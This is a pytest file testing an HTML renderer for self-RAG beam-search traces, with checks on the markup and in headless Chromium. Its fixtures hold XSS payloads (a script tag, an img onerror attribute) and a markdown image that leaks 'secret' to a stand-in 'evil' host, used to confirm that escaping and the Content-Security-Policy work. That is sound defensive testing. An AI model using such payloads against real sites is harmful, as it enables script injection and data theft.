"""The HTML trace page: a real two-step beam search from the scripted fake, checked as markup and in Chromium."""

from __future__ import annotations

import html
import re
import subprocess
import zlib
from html.parser import HTMLParser
from pathlib import Path

import pytest
from helpers import document_of, fused, plain

from selfrag import Chunk, LLMError, Result
from selfrag.cli.trace_html import render_trace_html, write_trace_html
from selfrag.llm.base import ChatRequest
from selfrag.result import DECIDED
from selfrag.testing import Scripted

Q = "How many days do I have to ask for a refund?"
EVIL = "Older orders <script>alert(1)</script> ![x](http://evil/?q=secret) had 14 days."
EVIL_QUERY = 'refunds "><img src=x onerror=alert(1)>'
CHUNKS = [
    Chunk("policy-2024.md", 0, "Refunds are accepted within 14 days of purchase.", title="Refund policy 2024"),
    Chunk(
        "policy-2026.md",
        0,
        "Since April 2026 refunds are accepted within 30 days of purchase. <img src=http://evil/p.png>",
        title="Refund policy <b>2026</b>",
    ),
    Chunk("giftcards.md", 0, "Gift cards are not eligible for refunds.", title="Gift cards"),
]
CHROMIUM = Path("/usr/bin/chromium")


def _labelled(sentence: str, rel: float, sup: dict[str, float], use: dict[str, float], **kw: object) -> Scripted:
    relevance = kw.get("relevance", "relevant")
    other = "irrelevant" if relevance == "relevant" else "relevant"
    probs = {"relevance": {relevance: rel, other: round(1 - rel, 2)}, "support": sup, "utility": use}
    return Scripted(fused(sentence, **kw), probs=probs)  # type: ignore[arg-type]


STEP0 = {  # the root beam: two kept drafts and one failed call
    "policy-2026": _labelled(
        "Since April 2026 refunds are accepted within 30 days.",
        0.96,
        {"fully": 0.85, "partially": 0.15},
        {"5": 0.7, "4": 0.3},
        evidence="refunds are accepted within 30 days",
        is_final=False,
        retrieve_next="continue",
    ),
    "policy-2024": _labelled(
        EVIL,
        0.8,
        {"partially": 0.6, "fully": 0.3, "no": 0.1},
        {"3": 0.6, "4": 0.4},
        support="partially",
        utility=3,
        evidence="within 14 days",
        is_final=False,
        retrieve_next="continue",
    ),
    "giftcards": LLMError("upstream returned 500"),
}
STEP1_GOOD = {  # the better beam: the final sentence, a kept alternative, a pruned one
    "policy-2026": _labelled(
        "The 30 days count from the date of purchase.",
        0.97,
        {"fully": 0.9, "partially": 0.1},
        {"5": 0.8, "4": 0.2},
        evidence="within 30 days of purchase",
    ),
    "policy-2024": _labelled(
        "Orders placed before April 2026 had 14 days.",
        0.85,
        {"partially": 0.7, "fully": 0.3},
        {"4": 0.6, "3": 0.4},
        support="partially",
        utility=4,
        evidence="within 14 days",
    ),
    "giftcards": _labelled(
        "Gift cards are excluded from refunds.",
        0.6,
        {"partially": 0.5, "no": 0.5},
        {"2": 0.7, "3": 0.3},
        support="partially",
        utility=2,
        evidence="Gift cards are not eligible",
    ),
}
STEP1_EVIL = {  # the other beam: two failures and a gated sentence, so it falls back (and is pruned)
    "policy-2026": LLMError("timed out after 60 s"),
    "policy-2024": LLMError("timed out after 60 s"),
    "giftcards": _labelled(
        "Gift cards cannot be refunded.",
        0.9,
        {"no": 0.8, "partially": 0.2},
        {"2": 0.9, "1": 0.1},
        relevance="irrelevant",
        support="no",
        evidence="",
        utility=2,
    ),
}


def _reply(request: ChatRequest) -> object:
    content, doc = request.messages[1].content, document_of(request)
    table = STEP0 if "(nothing yet)" in content else STEP1_EVIL if "Older orders" in content else STEP1_GOOD
    return next(reply for key, reply in table.items() if f'id="{key}' in doc)


@pytest.fixture
def result(engine) -> Result:
    script = {
        "retrieve_decide": Scripted(
            {"retrieve": "yes", "query": EVIL_QUERY}, probs={"retrieve": {"yes": 0.82, "no": 0.18}}
        ),
        "generate_fused": _reply,
        "generate_plain": Scripted(plain("I could not confirm the older policy.", utility=2)),
    }
    knobs = {"beam_width": 2, "max_depth": 3, "ndocs": 3, "gate_unsupported": True}
    return engine(script, logprobs=True, chunks=CHUNKS, **knobs, lead=False).answer(Q)


class _Page(HTMLParser):
    """Every start tag with its attributes, and the text, of an HTML document."""

    def __init__(self, text: str) -> None:
        super().__init__(convert_charrefs=True)
        self.tags: list[tuple[str, dict[str, str]]] = []
        self.text: list[str] = []
        self.feed(text)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.append((tag, {k: v or "" for k, v in attrs}))

    def handle_data(self, data: str) -> None:
        self.text.append(data)

    def marked(self, cls: str) -> list[dict[str, str]]:
        return [attrs for _, attrs in self.tags if cls in attrs.get("class", "").split()]


def _candidates(result: Result) -> list:
    return [c for step in result.trace.steps for c in step.candidates]


def test_the_scenario_has_every_fate(result):
    statuses = {c.status for c in _candidates(result)}
    assert statuses == {"kept", "pruned", "failed", "gated"}
    assert any(c.fallback for c in _candidates(result))
    assert len(result.trace.steps) == 2 and result.config["beam_width"] == 2


def test_every_candidate_sentence_and_status_is_shown(result):
    page = render_trace_html(result)
    text = " ".join(_Page(page).text)
    for candidate in _candidates(result):
        assert candidate.text in text
        if candidate.error:
            assert candidate.error in text
    cards = _Page(page).marked("cand")
    assert [c["data-status"] for c in cards].count("failed") == 3
    assert {c["data-status"] for c in cards} == {"kept", "pruned", "failed", "gated"}
    assert len(_Page(page).marked("fallback")) == 1
    assert len(cards) == len(_candidates(result))


def test_decisions_labels_probabilities_and_scores_are_shown(result):
    text = " ".join(" ".join(_Page(render_trace_html(result)).text).split())
    assert "retrieve · P(retrieve) 0.82" in text and EVIL_QUERY in text
    assert "IsSup fully 0.85 · partially 0.15" in text
    assert "IsRel irrelevant 0.90" in text  # the gated sentence
    first = result.trace.steps[0].candidates[0]
    assert f"f {first.score:.2f} · aggregate {first.aggregate:.2f}" in text


def test_the_final_path_is_marked_and_nothing_else(result):
    page = _Page(render_trace_html(result))
    path = result.trace.final_path
    assert path == ["0", "0.0", "0.0.0"]
    assert [b["data-beam"] for b in page.marked("beam") if "final-path" in b["class"]] == path[:-1]
    marked = [c for c in page.marked("cand") if "final-path" in c["class"]]
    assert len(marked) == len(path) - 1  # the candidates that became 0.0 and 0.0.0
    became = {c.child for c in _candidates(result) if c.child in path}
    assert became == {"0.0", "0.0.0"}


def test_untrusted_text_is_escaped(result):
    page = render_trace_html(result)
    assert "<script" not in page.lower() and "<img" not in page.lower()
    assert html.escape("<script>alert(1)</script>") in page
    assert html.escape("![x](http://evil/?q=secret)", quote=True) in page
    assert html.escape(EVIL_QUERY, quote=True) in page
    assert "Refund policy &lt;b&gt;2026&lt;/b&gt;" in page  # a document title
    allowed = {"html", "head", "meta", "title", "style", "body", "main", "h1", "h2", "div", "span", "section"}
    allowed |= {"b", "code", "a", "ul", "li", "p", "details", "summary", "footer"}
    assert {tag for tag, _ in _Page(page).tags} <= allowed
    assert not any(name.startswith("on") for _, attrs in _Page(page).tags for name in attrs)


def test_nothing_is_loaded_from_the_network(result):
    page = render_trace_html(result)
    tags = _Page(page).tags
    assert not any("src" in attrs or "srcset" in attrs for _, attrs in tags)
    assert all(attrs["href"].startswith("#") for _, attrs in tags if "href" in attrs)
    markup = re.findall(r"<[^<>]*>", page)  # every real tag: a '<' in text is escaped
    assert not [tag for tag in markup if re.search(r"https?:|//", tag, re.IGNORECASE)]
    assert "url(" not in page and "@import" not in page
    csp = next(a["content"] for t, a in tags if t == "meta" and a.get("http-equiv") == "Content-Security-Policy")
    assert "default-src 'none'" in csp and "script-src 'none'" in csp


def test_footer_shows_usage_and_stop_reason(result):
    text = " ".join(" ".join(_Page(render_trace_html(result)).text).split())
    usage = result.usage
    assert f"LLM calls {usage.llm_calls}" in text and f"rounds {usage.rounds}" in text
    assert f"total tokens {usage.total_tokens}" in text and f"wall time {usage.wall_time:.2f} s" in text
    assert f"stop reason {result.stop_reason}" in text and "stop: final" in text


def test_labels_without_logprobs_show_no_probabilities(engine):
    script = {
        "retrieve_decide": {"retrieve": "yes", "query": "refunds"},
        "generate_fused": fused("Fourteen days.", evidence="within 14 days"),
    }
    plain_result = engine(script, ndocs=1, lead=False).answer(Q)
    text = " ".join(" ".join(_Page(render_trace_html(plain_result)).text).split())
    assert "IsRel relevant IsSup fully IsUse 5" in text and "critique from labels" in text
    assert "relevant 1.00" not in text


def test_the_short_answer_opens_the_answer_and_says_where_it_came_from(engine):
    born = [
        Chunk("trapero.md", 0, "Pablo Trapero (born 4 October 1971) is an Argentine film director."),
        Chunk("ford.md", 0, "Aleksander Ford (24 November 1908 – 4 April 1980) was a Polish film director."),
    ]
    script = {
        "retrieve_decide": {"retrieve": "yes", "query": "Pablo Trapero Aleksander Ford born"},
        "generate_fused": fused("Pablo Trapero (born 4 October 1971) is an Argentine film director."),
    }
    dated = engine(script, ndocs=2, lead=True, chunks=born, confirm=False).answer(
        "Who was born first, Pablo Trapero or Aleksander Ford?"
    )
    page = _Page(render_trace_html(dated))
    bold = [attrs.get("title") for tag, attrs in page.tags if tag == "b" and attrs.get("title")]
    assert "Aleksander Ford." in page.text and bold == ["the short answer: the two options' dates in the documents"]
    answer = " ".join(" ".join(page.text).split())
    assert "Aleksander Ford. Pablo Trapero (born 4 October 1971)" in answer


@pytest.mark.parametrize("source", DECIDED)
def test_every_way_the_documents_decide_a_short_answer_is_said(result, source):
    decided = result.model_copy(update={"lead": "Yes.", "lead_from": source, "answer": f"Yes. {result.answer}"})
    page = _Page(render_trace_html(decided))
    title = next(attrs["title"] for tag, attrs in page.tags if tag == "b" and attrs.get("title"))
    assert title.startswith("the short answer: ")  # what decided it, not only that it was short


def test_a_short_answer_standing_alone_links_the_sources_that_decided_it(result):
    second = result.sources[0].model_copy(update={"n": 2, "doc_id": "policy-2024.md"})
    sources = [result.sources[0], second]
    alone = result.model_copy(
        update={"segments": [], "lead": "No.", "lead_from": "same", "answer": "No [1, 2].", "sources": sources}
    )
    bold = re.search(r'<b title="the short answer: the peoples, years[^"]*">(.*?)</b>', render_trace_html(alone))
    assert bold is not None  # what decided it
    assert re.findall(r'href="(#src-\d+)"', bold.group(1)) == ["#src-1", "#src-2"]  # linked, as cited
    assert re.sub(r"<[^>]+>", "", bold.group(1)) == "No [1, 2]."


def test_the_short_answer_calls_reply_is_shown_and_whether_it_was_printed(result):
    unprinted = result.model_copy(update={"trace": result.trace.model_copy(update={"lead_reply": "<90 days>"})})
    footer = " ".join(" ".join(_Page(render_trace_html(unprinted)).text).split())
    assert "short-answer call replied <90 days> (not printed)" in footer  # escaped, and said to be left out
    printed = unprinted.model_copy(update={"lead": "Yes.", "lead_from": "model"})
    assert "(not printed)" not in " ".join(_Page(render_trace_html(printed)).text)
    assert "short-answer call replied" not in " ".join(_Page(render_trace_html(result)).text)  # no call made
    trace = unprinted.trace.model_copy(update={"lead_reply": "90 days", "lead_held": "90 days."})
    held = " ".join(" ".join(_Page(render_trace_html(unprinted.model_copy(update={"trace": trace}))).text).split())
    assert "replied 90 days (held back: the model's short answers of this kind were more often wrong" in held


def test_a_result_without_steps_still_renders(result):
    empty = result.model_copy(update={"trace": result.trace.model_copy(update={"steps": [], "final_path": []})})
    assert "No step was recorded." in render_trace_html(empty)


def test_the_page_is_deterministic(result):
    assert render_trace_html(result) == render_trace_html(result)


def test_write_replaces_the_file_atomically(result, tmp_path):
    target = tmp_path / "trace.html"
    target.write_text("old")
    assert write_trace_html(result, target) == target
    assert target.read_text(encoding="utf-8") == render_trace_html(result)
    with pytest.raises(AttributeError):
        write_trace_html(object(), target)  # type: ignore[arg-type]  # rendering fails midway
    assert target.read_text(encoding="utf-8") == render_trace_html(result)  # the old page stands
    assert [p.name for p in tmp_path.iterdir()] == ["trace.html"]  # no temporary file left behind


# ── in a real browser ───────────────────────────────────────────────────────────────────────────────────────────


def _chromium(profile: Path, *args: str) -> subprocess.CompletedProcess[str]:
    flags = [
        "--headless",
        "--no-sandbox",
        "--disable-gpu",
        "--disable-quic",
        "--no-first-run",
        "--disable-background-networking",
        "--disable-component-update",
        "--disable-sync",
        "--disable-dev-shm-usage",
        "--host-resolver-rules=MAP * ~NOTFOUND",  # belt and braces: no name resolves
        f"--user-data-dir={profile}",
    ]
    return subprocess.run([str(CHROMIUM), *flags, *args], capture_output=True, text=True, timeout=120, check=True)


def _png_pixels(path: Path) -> tuple[int, int, bytes]:
    """Width, height and the decompressed (still filtered) scanlines of a PNG, with the stdlib only."""
    data = path.read_bytes()
    assert data[:8] == b"\x89PNG\r\n\x1a\n"
    width, height = int.from_bytes(data[16:20], "big"), int.from_bytes(data[20:24], "big")
    chunks, at = [], 8
    while at < len(data):
        size, kind = int.from_bytes(data[at : at + 4], "big"), data[at + 4 : at + 8]
        if kind == b"IDAT":
            chunks.append(data[at + 8 : at + 8 + size])
        at += 12 + size
    return width, height, zlib.decompress(b"".join(chunks))


@pytest.mark.slow
@pytest.mark.skipif(not CHROMIUM.exists(), reason="needs headless Chromium: apt-get install -y chromium")
def test_the_page_renders_in_headless_chromium(result, tmp_path):
    page = write_trace_html(result, tmp_path / "trace.html")
    shot = tmp_path / "trace.png"
    _chromium(
        tmp_path / "profile-shot", "--hide-scrollbars", "--window-size=1280,2000", f"--screenshot={shot}", page.as_uri()
    )
    width, height, scanlines = _png_pixels(shot)
    assert (width, height) == (1280, 2000) and shot.stat().st_size > 30_000
    assert len(set(scanlines)) > 64  # many distinct byte values: text and colour, not one flat fill
    dom = _chromium(tmp_path / "profile-dom", "--dump-dom", page.as_uri()).stdout
    assert 'class="beam final-path"' in dom and 'class="cand kept final-path"' in dom
    assert "<script" not in dom.lower() and "<img" not in dom.lower()  # nothing the model wrote became markup
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in dom
